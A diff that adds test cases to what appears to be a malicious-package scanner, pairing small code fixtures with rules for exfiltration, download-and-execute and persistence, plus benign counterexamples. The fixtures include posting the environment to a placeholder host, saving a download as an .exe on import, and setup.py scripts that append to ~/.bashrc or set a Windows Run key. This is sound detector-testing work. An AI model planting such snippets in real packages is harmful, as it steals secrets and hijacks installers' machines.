@@ -327,6 +327,29 @@ CASES = [
     ({"demo/report.py": "import os, json, requests\nreport = dict(os.environ)\n"
                         "requests.post('https://api.example.org/reports', json.dumps(report))\n"},
      "code.exfiltration", H, "the environment posted without asking, when called"),
+    # ---- the first half of a dropper, and persistence
+    ({"demo/__init__.py": "import requests\nfile = requests.get('https://x.example/a/b?x=1')\n"
+                          "with open('demo.exe', 'wb') as f:\n    f.write(file.content)\n"},
+     "code.download-exec", H, "a download saved as a Windows program on import"),
+    ({"demo/__init__.py": "import requests\nfile = requests.get('https://x.example/a/b.json')\n"
+                          "with open('cache.json', 'wb') as f:\n    f.write(file.content)\n"},
+     "code.download-exec", None, "benign: a download cached as data on import"),
+    ({"demo/__init__.py": "import requests\nexe = 'demo.exe'\nfile = requests.get('https://x.example/b')\n"
+                          "with open('notes.txt', 'w') as f:\n    f.write('x')\n"},
+     "code.download-exec", None, "benign: a literal write next to a download"),
+    (setup_py("import os\nfrom setuptools import setup\nrc = os.path.expanduser('~/.bashrc')\n"
+              "with open(rc, 'a') as f:\n    f.write('alias ls=\"python ~/.x.py\"')\nsetup()\n"),
+     "code.persistence", H, "an alias appended to the shell's start-up file at install"),
+    (setup_py("import winreg\nfrom setuptools import setup\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+              "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
+              "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\nsetup()\n"),
+     "code.persistence", H, "a Run key set at install"),
+    (setup_py("import os\nfrom setuptools import setup\nrc = os.path.expanduser('~/.bashrc')\n"
+              "print(open(rc).read())\nsetup()\n"),
+     "code.persistence", None, "benign: reading the start-up file writes nothing"),
+    ({"demo/cli.py": "import os\ndef completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
+                     "        f.write('eval \"$(demo completion)\"')\n"},
+     "code.persistence", None, "benign: a CLI installing shell completion when asked"),
     # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
     ({"demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
       "demo-1.0/versioner.py": (
